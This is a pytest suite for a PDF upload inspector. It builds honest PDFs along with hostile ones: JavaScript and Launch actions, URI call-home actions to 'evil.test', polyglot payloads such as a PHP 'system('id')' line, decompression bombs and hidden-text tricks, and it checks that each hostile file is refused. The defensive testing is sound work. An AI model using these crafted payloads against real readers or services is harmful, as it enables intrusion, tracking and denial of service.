"""PDFs, honest and hostile."""

from __future__ import annotations

import logging
import random
import zlib
from collections.abc import Callable

import pytest
from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import Fit

from backend_lambda.services.inspection import Limits, Reason
from backend_lambda.services.inspection.pdf_seen import UNDRAWN
from tests.backend_lambda.services.making_files import (
    HELLO,
    PDF,
    archive,
    exif,
    flat,
    found,
    from_objects,
    jpeg,
    one_page,
    program,
    reason,
    report,
    rewritten,
    stream,
    tiff,
    updated,
    with_object_streams,
)

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
CALL = b"<</S/URI/URI(http://evil.test/?id=7)>>"


def test_an_honest_report_is_read() -> None:
    result = found(report(), PDF)
    assert (result.reason, result.pages, result.text_complete) == (None, 2, True)
    assert result.text == "Blood pressure 120/80 mmHg\nBlood pressure 120/80 mmHg"


def linked() -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(10, 10, 90, 90), url="https://example.org"))
        writer.add_outline_item(title="Second", page_number=1, fit=Fit.fit())

    return rewritten(change)


HONEST = {
    "an update": updated(report()),
    "two updates": updated(updated(report())),
    "links and outlines": linked(),
    "opens on a page": one_page(catalog=b"/OpenAction[3 0 R/Fit]"),
    "goes to a page, then prints": one_page(
        catalog=b"/OpenAction 6 0 R",
        more={6: b"<</S/GoTo/D[3 0 R/Fit]/Next[7 0 R]>>", 7: b"<</S/Named/N/Print>>"},
    ),
    "opens on a place with a name": one_page(catalog=b"/OpenAction(chapter)"),
    "a link to the web": one_page(
        page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org)>>>>]"
    ),
    "a font that is called AA": one_page(
        resources=b"/Font<</AA<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
    ),
    "goes to a page": one_page(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "a form without scripts": one_page(
        catalog=b"/AcroForm<</Fields[6 0 R]>>", more={6: b"<</FT/Tx/T(name)/V(Someone)>>"}
    ),
    "object streams": with_object_streams({5: b"<</Title(Report)>>", 6: b"[1 2 3]"}),
    "white space at the end": one_page() + b"\r\n\x00 \t",
    "no line end at the end": one_page().rstrip(),
    "the end twice": one_page() + b"%%EOF\n",
    "an unknown filter": one_page(more={6: stream(b"abc", b"/Filter/Other")}),
    "a picture": one_page(
        more={6: stream(jpeg(), b"/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/Filter/DCTDecode")}
    ),
    "a packed picture": one_page(
        more={6: flat(bytes(3000 * 2000 * 3), b"/Subtype/Image/Width 3000/Height 2000/BitsPerComponent 8")}
    ),
    "words about scripts": one_page(flat(b"BT /F1 9 Tf 9 9 Td (JavaScript, Launch, <html>) Tj ET")),
    "a wrong place of the table": one_page().replace(b"startxref\n", b"startxref\n9"),
    "a loop of tables": one_page(trailer=b"/Prev 9"),
}


@pytest.mark.parametrize("name", HONEST)
def test_nothing_is_said_against_what_ordinary_programs_write(name: str) -> None:
    result = found(HONEST[name], PDF)
    assert result.reason is None
    assert result.pages in {1, 2}


ACTIVE: dict[str, bytes] = {
    "a script when opened": one_page(catalog=b"/OpenAction" + SCRIPT),
    "names written with escapes": one_page(catalog=b"/OpenAction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>"),
    "a short key alone": one_page(more={6: b"<</J#53(app.alert\\(1\\))>>"}),
    "a script on a page": one_page(page=b"/AA<</O" + SCRIPT + b">>"),
    "a script in the names": one_page(catalog=b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>", more={6: SCRIPT}),
    "a script that nothing leads to": one_page(more={6: SCRIPT}),
    "a script in a form": one_page(
        catalog=b"/AcroForm<</Fields[6 0 R]>>", more={6: b"<</FT/Tx/T(a)/AA<</K" + SCRIPT + b">>>>"}
    ),
    "a call home when opened": one_page(catalog=b"/OpenAction<</S/URI/URI(http://evil.test/?id=7)>>"),
    "a call home when opened, elsewhere": one_page(
        catalog=b"/OpenAction 6 0 R", more={6: b"<</S 7 0 R/URI(http://evil.test)>>", 7: b"/URI"}
    ),
    "a call home after going to a page": one_page(
        catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/NextPage/Next[6 0 R]>>>>",
        more={6: CALL},
    ),
    "actions in a ring": one_page(catalog=b"/OpenAction 6 0 R", more={6: b"<</S/GoTo/Next 6 0 R>>"}),
    "an unknown action when opened": one_page(catalog=b"/OpenAction<</S/Thread/F(\\\\\\\\host)>>"),
    "a call home on a page": one_page(page=b"/AA<</O" + CALL + b">>"),
    "a call home on a page, elsewhere": one_page(page=b"/A#41 6 0 R", more={6: b"<</O 7 0 R>>", 7: CALL}),
    "a call home by a pointer": one_page(
        page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AA<</E" + CALL + b">>>>]"
    ),
    "a call home when the file is closed": one_page(catalog=b"/AA<</WC" + CALL + b">>"),
    "a call home that no table knows": one_page(
        hidden=b"9 0 obj\n<</Type/Catalog/OpenAction" + CALL + b">>\nendobj\n"
    ),
    "a page's call home that no table knows": one_page(
        hidden=b"9 0 obj\n<</Type/Page/AA <</O" + CALL + b">>>>\nendobj\n"
    ),
    "a form of XML": one_page(catalog=b"/AcroForm<</XFA(x)>>"),
    "a program that is started": one_page(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"),
    "a form that is sent": one_page(more={6: b"<</S/SubmitForm/F(https://example.org)>>"}),
    "data that is taken in": one_page(more={6: b"<</S/ImportData/F(a.fdf)>>"}),
    "another file that is opened": one_page(more={6: b"<</S/GoToR/F(\\\\\\\\host\\\\share)>>"}),
    "a file within that is opened": one_page(more={6: b"<</S/GoToE>>"}),
    "a film": one_page(more={6: b"<</Type/Annot/Subtype/RichMedia>>"}),
    "a sound": one_page(more={6: b"<</S/Sound/Sound 4 0 R>>"}),
    "a file on a page": one_page(more={6: b"<</Type/Annot/Subtype/FileAttachment>>"}),
    "a file within": rewritten(lambda writer: writer.add_attachment("a.txt", b"text")),
    "a stream in another file": one_page(more={6: stream(b"", b"/F(\\\\\\\\host\\\\share)")}),
    "a script in an object stream": with_object_streams({5: SCRIPT}),
    "a script in an object stream that no table knows": with_object_streams({5: SCRIPT}, known=False),
    "a script that no table knows": one_page(hidden=b"9 0 obj\n" + SCRIPT + b"\nendobj\n"),
    "a script behind an update": updated(one_page(more={6: SCRIPT})),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_would_act_when_it_is_opened_is_refused(name: str) -> None:
    assert reason(ACTIVE[name], PDF) is Reason.ACTIVE_CONTENT


def locked(password: str, owner: str, algorithm: str) -> bytes:
    return rewritten(lambda writer: writer.encrypt(password, owner, algorithm=algorithm))


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256"])
@pytest.mark.parametrize("password", ["secret", ""], ids=["for reading", "for changing only"])
def test_encrypted_files_are_refused(password: str, algorithm: str) -> None:
    assert reason(locked(password, "owner", algorithm), PDF) is Reason.ENCRYPTED


def test_encryption_of_a_kind_that_nobody_knows_is_refused() -> None:
    odd = one_page(trailer=b"/Encrypt<</Filter/Other/V 9>>")
    assert reason(odd, PDF) is Reason.ENCRYPTED


OTHERS = {
    "zip": archive(),
    "program": program(),
    "html": b"<html><script>alert(1)</script></html>",
    "old markup": b"<!DOCTYPE  html><p>",
    "php": b"<?PHP system('id');",
    "pdf": one_page(),
    "rar": b"Rar!\x1a\x07\x00rest",
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
    "linux program": b"\x7fELF\x02\x01\x01" + bytes(64),
    "cabinet": b"MSCF\x00\x00\x00\x00" + bytes(64),
}


@pytest.mark.parametrize("name", OTHERS)
def test_another_file_inside_is_refused(name: str) -> None:
    inside = b"%" + OTHERS[name] + b"\n" if b"\n" not in OTHERS[name] else OTHERS[name]
    assert reason(one_page(before=inside), PDF) is Reason.POLYGLOT
    assert reason(one_page(more={6: stream(OTHERS[name])}), PDF) is Reason.POLYGLOT


@pytest.mark.parametrize("name", OTHERS)
def test_another_file_behind_is_refused(name: str) -> None:
    assert reason(one_page() + OTHERS[name], PDF) in {Reason.POLYGLOT, Reason.TRAILING_DATA}
    disguised = one_page() + OTHERS[name] + b"\nstartxref\n9\n%%EOF\n"
    assert reason(disguised, PDF) is Reason.POLYGLOT


@pytest.mark.parametrize("name", OTHERS)
def test_another_file_in_front_is_refused(name: str) -> None:
    expected = {Reason.POLYGLOT} if name != "pdf" else {Reason.POLYGLOT, Reason.TRAILING_DATA}
    assert reason(OTHERS[name] + one_page(), PDF) in expected


def test_a_header_far_into_the_file_is_no_header() -> None:
    assert reason(b"x" * 2000 + one_page(), PDF) is Reason.NOT_THIS_TYPE


@pytest.mark.parametrize("rest", [b"x", b"%", b"\nmore\n", b"\x00\x01", bytes(5000) + b"x"])
def test_data_behind_the_end_is_refused(rest: bytes) -> None:
    assert reason(one_page() + rest, PDF) is Reason.TRAILING_DATA


def test_data_between_the_table_and_a_second_end_is_refused() -> None:
    assert reason(one_page() + b"smuggled\n%%EOF\n", PDF) is Reason.TRAILING_DATA


def test_random_bytes_within_are_taken_for_no_other_file() -> None:
    """What a compressed stream looks like: 20 MB of it, so that chance has its chance."""
    chance = random.Random(5)
    noise = bytearray(chance.randbytes(20_000_000))
    for signature in (b"PK\x03\x04", b"PK\x05\x06", b"7z\xbc\xaf", b"Rar!", b"<htm", b"<?ph"):
        for _ in range(50):
            at = chance.randrange(len(noise) - 8)
            noise[at : at + len(signature)] = signature
    assert noise.count(b"MZ") > 200
    assert reason(one_page(more={6: stream(bytes(noise), b"/Filter/Other")}), PDF) is None


def tree(depth: int) -> bytes:
    """Twice as many pages with each level, in one node a level."""
    nodes = {
        level: b"<</Type/Pages/Count 1/Kids[%d 0 R %d 0 R]>>" % (level + 1, level + 1)
        for level in range(2, depth + 2)
    }
    return from_objects(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", **nodes, depth + 2: b"<</Type/Page/MediaBox[0 0 9 9]>>"}
    )


def pages_of(kids: bytes, count: int = 1) -> bytes:
    return from_objects(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        }
    )


HUGE: dict[str, tuple[Callable[[], bytes], set[Reason]]] = {
    "a stream that grows": (lambda: one_page(flat(b"0" * 60_000_000)), {Reason.BOMB}),
    "a stream that grows twice": (
        lambda: one_page(
            stream(
                zlib.compress(zlib.compress(bytes(500_000_000), 9), 9), b"/Filter[/FlateDecode/FlateDecode]"
            )
        ),
        {Reason.BOMB},
    ),
    "many streams that grow": (
        lambda: one_page(more={number: flat(bytes(30_000_000)) for number in range(6, 16)}),
        {Reason.BOMB},
    ),
    "object streams that grow together": (
        lambda: with_object_streams({5: b"(" + b" " * 12_000_000 + b")", 6: b"(" + b" " * 12_000_000 + b")"}),
        {Reason.BOMB},
    ),
    "an object stream that grows": (
        lambda: one_page(more={6: flat(b"1 0 " + b" " * 60_000_000, b"/Type/ObjStm/N 1/First 4")}),
        {Reason.BOMB},
    ),
    "a picture larger than it says": (
        lambda: one_page(more={6: flat(bytes(10_000_000), b"/Subtype/Image/Width 8/Height 8")}),
        {Reason.BOMB},
    ),
    "runs that grow": (
        lambda: one_page(stream(b"\x81\x00" * 1_000_000, b"/Filter/RunLengthDecode")),
        {Reason.BOMB, Reason.TOO_COMPLEX},
    ),
    "too much for slow filters": (
        lambda: one_page(stream(b"\x00" * 17_000_000, b"/Filter/LZWDecode")),
        {Reason.TOO_COMPLEX},
    ),
    "many filters": (
        lambda: one_page(stream(b"0", b"/Filter[" + b"/ASCIIHexDecode" * 9 + b"]")),
        {Reason.TOO_COMPLEX},
    ),
    "a picture with too many pixels": (
        lambda: one_page(more={6: flat(b"", b"/Subtype/Image/Width 30000/Height 30000")}),
        {Reason.TOO_MANY_PIXELS},
    ),
    "a picture that hides its size": (
        lambda: one_page(
            more={
                6: stream(
                    jpeg(width=60_000, height=60_000), b"/Subtype/Image/Width 8/Height 8/Filter/DCTDecode"
                )
            }
        ),
        {Reason.TOO_MANY_PIXELS},
    ),
    "201 pages": (lambda: pages_of(b"3 0 R " * 201, 201), {Reason.TOO_MANY_PAGES}),
    "a million pages": (
        lambda: pages_of(b"3 0 R " * 1_000_000, 1_000_000),
        {Reason.TOO_MANY_PAGES, Reason.TOO_COMPLEX},
    ),
    "2 to the power of 40 pages": (lambda: tree(40), {Reason.TOO_MANY_PAGES}),
    "pages in a circle": (lambda: pages_of(b"2 0 R"), {Reason.TOO_COMPLEX}),
    "pages in a deep chain": (
        lambda: from_objects(
            {
                1: b"<</Type/Catalog/Pages 2 0 R>>",
                **{n: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(2, 500)},
                500: b"<</Type/Page>>",
            }
        ),
        {Reason.TOO_COMPLEX},
    ),
    "deep arrays": (lambda: one_page(more={6: b"[" * 50_000 + b"]" * 50_000}), {Reason.TOO_COMPLEX}),
    "deep dictionaries": (
        lambda: one_page(more={6: b"<</A" * 50_000 + b" 1" + b">>" * 50_000}),
        {Reason.TOO_COMPLEX},
    ),
    "somewhat deep arrays": (lambda: one_page(more={6: b"[" * 150 + b"]" * 150}), {Reason.TOO_COMPLEX}),
    "a hundred thousand objects": (
        lambda: one_page(more=dict.fromkeys(range(6, 100000), b"1")),
        {Reason.TOO_COMPLEX},
    ),
    "a large array": (lambda: one_page(more={6: b"[" + b"0 " * 120_000 + b"]"}), {Reason.TOO_COMPLEX}),
    "references that lead nowhere": (
        lambda: one_page(
            more={
                6: b"[" + b"".join(b"%d 0 R " % number for number in range(10, 9_000)) + b"]",
                7: stream(bytes(90_000)),
            }
        ),
        {Reason.DAMAGED},
    ),
    "references in a chain": (
        lambda: one_page(more={number: b"%d 0 R" % (number + 1) for number in range(6, 3_000)}),
        {Reason.DAMAGED, Reason.TOO_COMPLEX},
    ),
    "a table that is wrong everywhere": (
        lambda: one_page(more=dict.fromkeys(range(6, 9000), b"null")).replace(
            b" 0 obj\nnull", b" 9 obj\nnull"
        ),
        {Reason.DAMAGED, Reason.TOO_COMPLEX},
    ),
}


@pytest.mark.parametrize("name", HUGE)
def test_what_costs_beyond_measure_is_refused(name: str) -> None:
    make, expected = HUGE[name]
    assert reason(make(), PDF) in expected


def test_200_pages_are_not_too_many() -> None:
    result = found(pages_of(b"3 0 R " * 200, 200), PDF)
    assert (result.reason, result.pages) == (None, 200)


@pytest.mark.parametrize(
    "entries",
    [
        b"/Filter 9 0 R",
        b"/Filter[9 0 R null 7 (text)]",
        b"/Filter<<>>",
        b"/Subtype/Image/Width 9 0 R/Height -1/BitsPerComponent 1.5",
        b"/Subtype/Image/Width 1e9/Height(x)",
        b"/Type 6 0 R/Subtype 6 0 R",
    ],
)
def test_entries_that_make_no_sense_break_nothing(entries: bytes) -> None:
    assert reason(one_page(more={6: stream(b"abc", entries)}), PDF) in {None, Reason.TOO_COMPLEX}


def test_places_beyond_all_files_break_nothing() -> None:
    row = b"\x01" + b"\xff" * 9 + b"\x00"
    table = flat(row * 6, b"/Type/XRef/W[1 9 1]/Size 6/Root 1 0 R")
    far = b"%PDF-1.7\n1 0 obj\n" + table + b"\nendobj\nstartxref\n9\n%%EOF\n"
    assert reason(far, PDF) is Reason.DAMAGED


def test_a_table_that_claims_more_than_there_is_is_refused_or_read() -> None:
    lying = one_page().replace(b"0 6\n", b"0 999999999\n", 1)
    assert reason(lying, PDF) in {None, Reason.DAMAGED, Reason.TOO_COMPLEX}


@pytest.mark.parametrize("sixteenth", range(16))
def test_a_file_that_was_cut_off_is_refused(sixteenth: int) -> None:
    for whole in (report(), updated(one_page()), with_object_streams({5: b"[1]"})):
        cut = whole[: len(whole) * sixteenth // 16]
        if cut.rstrip().endswith(b"%%EOF"):  # an update that is missing leaves an older, whole file
            continue
        assert reason(cut, PDF) in {Reason.DAMAGED, Reason.NOT_THIS_TYPE, Reason.TRAILING_DATA}


@pytest.mark.parametrize(
    "broken",
    [
        b"%PDF-1.7\nstartxref\n0\n%%EOF\n",
        from_objects({1: b"<</Type/Catalog>>"}),
        from_objects({1: b"null"}),
        from_objects({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        from_objects({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"(no pages)"}),
        b"%PDF-1.7\n" + b"\x00" * 100 + b"\nstartxref\n99999\n%%EOF\n",
    ],
    ids=["nothing", "no page tree", "no catalog", "an empty tree", "a tree of text", "zeros"],
)
def test_a_file_without_a_page_is_damaged(broken: bytes) -> None:
    assert reason(broken, PDF) is Reason.DAMAGED


def test_a_photograph_in_a_report_may_not_say_where() -> None:
    def with_picture(picture: bytes) -> bytes:
        return one_page(more={6: stream(picture, b"/Subtype/Image/Width 8/Height 8/Filter/DCTDecode")})

    assert reason(with_picture(jpeg(notes=[exif(tiff(place=True))])), PDF) is Reason.LOCATION
    assert reason(with_picture(jpeg(notes=[exif(tiff(place=False))])), PDF) is None
    assert reason(with_picture(b"no picture at all"), PDF) is None
    packed = one_page(
        more={
            6: stream(
                zlib.compress(jpeg(notes=[exif(tiff(place=True))])),
                b"/Subtype/Image/Width 800/Height 8/Filter[/FlateDecode/DCTDecode]",
            )
        }
    )
    assert reason(packed, PDF) is Reason.LOCATION


FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>"
DRAWS = b"/Font<</F1 5 0 R>>/XObject<</F 6 0 R>>"


# --- Text --------------------------------------------------------------------------------------------


def written(*lines: str) -> bytes:
    """With letters beyond Latin-1, as a Unicode font writes them."""
    made = FPDF()
    made.add_page()
    made.set_font("helvetica", size=12)
    for line in lines:
        made.cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(made.output())


def test_text_keeps_its_lines() -> None:
    assert found(written("Sodium 140", "Kalium 4.1 \xb0"), PDF).text == "Sodium 140\nKalium 4.1 \xb0"


def unicode_text(letters: str) -> bytes:
    """One byte a letter, and a table that says which letter each is."""
    codes = bytes(range(1, len(letters) + 1))
    lines = b"".join(
        b"<%02x> <%s>\n" % (code, letter.encode("utf-16-be").hex().encode())
        for code, letter in zip(codes, letters, strict=True)
    )
    table = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange\n"
        b"%d beginbfchar\n%sendbfchar endcmap end end" % (len(letters), lines)
    )
    return one_page(
        stream(b"BT /F2 12 Tf 72 700 Td <%s> Tj ET" % codes.hex().encode()),
        resources=b"/Font<</F2 6 0 R>>",
        more={
            6: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FirstChar 1/LastChar %d/Widths[%s]/ToUnicode 7 0 R>>"
            % (len(letters), b"500 " * len(letters)),
            7: stream(table),
        },
    )


def test_what_nobody_sees_is_taken_out_of_the_text() -> None:
    unseen = "\u202e\u2066\u200b\ufeff\u00ad\ufe0f\U000e0041\x07\x1b\ue000"
    assert found(unicode_text("A" + unseen + "B"), PDF).text == "AB"
    assert found(unicode_text("می\u200cروم"), PDF).text.replace("\n", "") != ""


DRAWN = b"BT /F1 12 Tf 72 700 Td (seen) Tj ET "
UNSEEN: dict[str, bytes] = {
    "not drawn": b"BT /F1 12 Tf 3 Tr 72 600 Td (order) Tj ET",
    "only clipped with": b"BT /F1 12 Tf 7 Tr 72 600 Td (order) Tj ET",
    "set for the whole page": b"3 Tr BT /F1 12 Tf 72 600 Td (order) Tj ET",
    "between others": b"BT /F1 12 Tf 72 600 Td 3 Tr (order) Tj ET q 0 Tr Q BT 72 500 Td (order) Tj ET",
    "in an array": b"BT /F1 12 Tf 3 Tr 72 600 Td [(or) -20 (der)] TJ ET",
    "on a new line": b"BT /F1 12 Tf 3 Tr 72 600 Td (order) ' 0 0 (order) \" ET",
    "tiny": b"BT /F1 0.1 Tf 72 600 Td (order) Tj ET",
    "no size at all": b"BT /F1 0 Tf 72 600 Td (order) Tj ET",
    "made tiny by the text's scale": b"BT /F1 12 Tf .1 0 0 .1 72 600 Tm (order) Tj ET",
    "made tiny by the page's scale": b"q .1 0 0 .1 0 0 cm BT /F1 12 Tf 720 6000 Td (order) Tj ET Q",
    "far off": b"BT /F1 12 Tf 5000 5000 Td (order) Tj ET",
    "left of the page": b"BT /F1 12 Tf -900 600 Td (order) Tj ET",
    "right of it": b"BT /F1 12 Tf 640 600 Td (order) Tj ET",
    "below it": b"BT /F1 12 Tf 72 -40 Td (order order order order order order) Tj ET",
    "above it": b"BT /F1 12 Tf 72 820 Td (order) Tj ET",
    "on a line below it": b"BT /F1 12 Tf 100 TL 72 50 Td (order) ' ET",
    "turned, off it": b"BT /F1 12 Tf 0 1 -1 0 700 72 Tm (order) Tj ET",
    "moved off it": b"q 1 0 0 1 0 9000 cm " + DRAWN.replace(b"seen", b"order") + b"Q",
}
SEEN: dict[str, bytes] = {
    "outlined": b"BT /F1 12 Tf 1 Tr 72 600 Td (order) Tj ET",
    "drawn and clipped with": b"BT /F1 12 Tf 6 Tr 72 600 Td (order) Tj ET",
    "drawn again": b"BT /F1 12 Tf 3 Tr 72 600 Td 0 Tr (order) Tj ET",
    "drawn again after a restore": b"q 3 Tr Q BT /F1 12 Tf 72 600 Td (order) Tj ET",
    "small print": b"BT /F1 4 Tf 72 600 Td (order) Tj ET",
    "large by the text's scale": b"BT /F1 1 Tf 12 0 0 12 72 600 Tm (order) Tj ET",
    "large by the page's scale": b"q 12 0 0 12 0 0 cm BT /F1 1 Tf 6 50 Td (order) Tj ET Q",
    "upside down": b"q 1 0 0 -1 0 792 cm BT /F1 12 Tf 1 0 0 -1 72 192 Tm (order) Tj ET Q",
    "turned": b"BT /F1 12 Tf 0 1 -1 0 300 72 Tm (order) Tj ET",
    "from outside onto the page": b"BT /F1 12 Tf -40 600 Td (the order) Tj ET",
    "far along a line that began outside": b"BT /F1 12 Tf -400 600 Td (" + b"x" * 60 + b") Tj (order) Tj ET",
    "at the top": b"BT /F1 12 Tf 72 790 Td (order) Tj ET",
}


@pytest.mark.parametrize("name", UNSEEN)
def test_letters_that_nobody_could_see_are_not_read(name: str) -> None:
    result = found(one_page(stream(DRAWN + UNSEEN[name] + b" 0 Tr " + DRAWN)), PDF)
    assert (result.reason, result.text_complete) == (None, True)
    assert "order" not in result.text
    assert result.text.split() == ["seen", "seen"]


@pytest.mark.parametrize("name", SEEN)
def test_letters_that_are_drawn_are_read(name: str) -> None:
    assert "order" in found(one_page(stream(SEEN[name])), PDF).text


@pytest.mark.parametrize(
    ("page", "content", "read"),
    [
        (b"/MediaBox[1000 1000 1612 1792]", b"BT /F1 12 Tf 1072 1700 Td (order) Tj ET", True),
        (b"/MediaBox[1000 1000 1612 1792]", b"BT /F1 12 Tf 72 700 Td (order) Tj ET", False),
        (b"/MediaBox[612 792 0 0]", HELLO.replace(b"Hello", b"order"), True),
        (b"/CropBox[0 0 612 300]", HELLO.replace(b"Hello", b"order"), False),
        (b"/MediaBox[0 0 0 0]", HELLO.replace(b"Hello", b"order"), True),
        (b"/MediaBox(none)", HELLO.replace(b"Hello", b"order"), True),
        (b"/UserUnit 72/MediaBox[0 0 9 11]", b"BT /F1 .2 Tf 1 9 Td (order) Tj ET", True),
    ],
)
def test_where_the_page_is(page: bytes, content: bytes, *, read: bool) -> None:
    made = one_page(stream(content)).replace(
        b"/MediaBox[0 0 612 792]", page if b"MediaBox" in page else b"/MediaBox[0 0 612 792]" + page
    )
    assert ("order" in found(made, PDF).text) is read


@pytest.mark.parametrize(
    ("outside", "form", "read"),
    [
        (b"/F Do", b"", True),
        (b"q 3 Tr /F Do Q", b"", False),
        (b"q .1 0 0 .1 0 0 cm /F Do Q", b"", False),
        (b"q 1 0 0 1 0 9000 cm /F Do Q", b"", False),
        (b"/F Do", b"/Matrix[.1 0 0 .1 0 0]", False),
        (b"/F Do", b"/Matrix[1 0 0 1 0 -9000]", False),
        (b"q 1 0 0 1 0 9000 cm /F Do Q", b"/Matrix[1 0 0 1 0 -9000]", True),
        (b"q 3 Tr Q /F Do", b"", True),
    ],
)
def test_letters_in_a_form_are_where_it_is_drawn(outside: bytes, form: bytes, *, read: bool) -> None:
    inside = {6: stream(b"BT /F1 12 Tf 72 600 Td (order) Tj ET", FORM + form)}
    result = found(one_page(stream(outside + b" " + DRAWN), resources=DRAWS, more=inside), PDF)
    assert ("order" in result.text) is read
    assert "seen" in result.text


SCANNED = b"/XObject<</Im 6 0 R>>/Font<</F1 5 0 R>>"
PICTURE = {6: stream(jpeg(), b"/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/Filter/DCTDecode")}


def test_the_letters_behind_a_scan_are_kept_and_marked() -> None:
    scanned = stream(b"q 612 0 0 792 0 0 cm /Im Do Q BT 3 Tr /F1 12 Tf 72 700 Td (Sodium 140) Tj ET")
    result = found(one_page(scanned, resources=SCANNED, more=PICTURE), PDF)
    assert result.text == f"{UNDRAWN}\nSodium 140"
    illustrated = stream(b"q 9 0 0 9 0 0 cm /Im Do Q " + DRAWN)
    assert found(one_page(illustrated, resources=SCANNED, more=PICTURE), PDF).text == "seen"
    off_the_page = stream(b"BT 3 Tr /F1 12 Tf 72 -700 Td (order) Tj ET")
    assert found(one_page(off_the_page, resources=SCANNED, more=PICTURE), PDF).text == ""


@pytest.mark.parametrize(
    "odd",
    [
        b"(x) Tr /F1 (x) Tf Td Tj TJ [] TJ [[] (x) null] TJ ' \" Do /No Do (x) Do Q Q Q",
        b"1e400 0 0 1e400 0 0 cm BT /F1 1e400 Tf 1 0 0 1 1e999 -1e999 Tm (x) Tj ET",
        b"q " * 5000 + b"BT /F1 12 Tf 72 600 Td (x) Tj ET",
        b"null null Tf /F1 null Tf 1 2 3 Tm BT (x) Tj ET",
        b"999999999999999999999999999999999999999999 Tr (x) Tj",
    ],
)
def test_operators_that_make_no_sense_break_nothing(odd: bytes) -> None:
    result = found(one_page(stream(DRAWN + odd)), PDF)
    assert result.reason is None
    assert "seen" in result.text


def test_text_stops_at_the_limit_and_says_so() -> None:
    long = one_page(stream(b"BT /F1 12 Tf 72 700 Td " + b"(0123456789) Tj " * 300 + b"ET"))
    assert len(found(long, PDF).text) == 3000
    result = found(long, PDF, Limits(characters=1000))
    assert (result.reason, len(result.text), result.text_complete) == (None, 1000, False)


def test_pages_that_are_too_much_work_are_left_out_of_the_text() -> None:
    costly = one_page(stream(b"BT /F1 12 Tf 72 700 Td (seen) Tj " + b"(x) Tj " * 700_000 + b"ET"))
    assert len(costly) > 4_000_000
    result = found(costly, PDF)
    assert (result.reason, result.text, result.text_complete) == (None, "", False)


def test_forms_are_read_and_their_work_is_counted() -> None:
    inside = {6: flat(b"BT /F1 9 Tf 9 9 Td (inside) Tj ET", FORM)}
    result = found(one_page(stream(HELLO + b" /F Do"), resources=DRAWS, more=inside), PDF)
    assert (result.text, result.text_complete) == ("Hello\ninside", True)
    drawn_again_and_again = {6: flat(b"BT /F1 9 Tf " + b"(x) Tj " * 60_000 + b"ET", FORM)}
    costly = one_page(stream(b"/F Do " * 90), resources=DRAWS, more=drawn_again_and_again)
    assert len(costly) < 4_000
    result = found(costly, PDF)
    assert (result.reason, result.text, result.text_complete) == (None, "", False)


def test_a_page_that_cannot_be_read_speaks_against_nothing() -> None:
    result = found(one_page(stream(b"BT /F1 (no size) Tf [ ( Tj ET")), PDF)
    assert result.reason is None
    calls_itself = one_page(
        stream(b"/F Do " + HELLO),
        resources=b"/Font<</F1 5 0 R>>/XObject<</F 6 0 R>>",
        more={
            6: stream(b"/F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 6 0 R>>>>")
        },
    )
    assert found(calls_itself, PDF).reason is None


def test_nothing_of_a_document_gets_into_the_log(caplog: pytest.LogCaptureFixture) -> None:
    """What pypdf finds odd, it quotes."""
    caplog.set_level(logging.DEBUG)
    odd = one_page(stream(b"BT /F1 12 Tf (Mrs Example) Tj", b"/DecodeParms(Mrs Example)/Filter/FlateDecode"))
    found(odd.replace(b"startxref\n", b"startxref\n9"), PDF)
    assert not [record for record in caplog.records if record.name.startswith("pypdf")]
